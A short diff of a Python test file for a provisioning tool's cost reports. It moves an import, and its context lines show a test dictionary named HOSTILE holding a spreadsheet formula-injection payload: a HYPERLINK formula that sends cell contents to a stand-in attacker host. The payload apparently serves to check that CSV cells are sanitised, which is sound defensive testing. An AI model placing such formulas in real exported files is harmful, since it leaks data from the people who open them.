@@ -12,7 +12,7 @@ from account_helpers import T0
 from provisioner.account.csv_safe import safe_cell
 from provisioner.account.focus import iter_focus_csv
 from provisioner.account.reports import cost_report, report_to_csv
-from provisioner.store import LedgerEntry
+from provisioner.domain.records import LedgerEntry
 
 HOSTILE = {
     "team": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
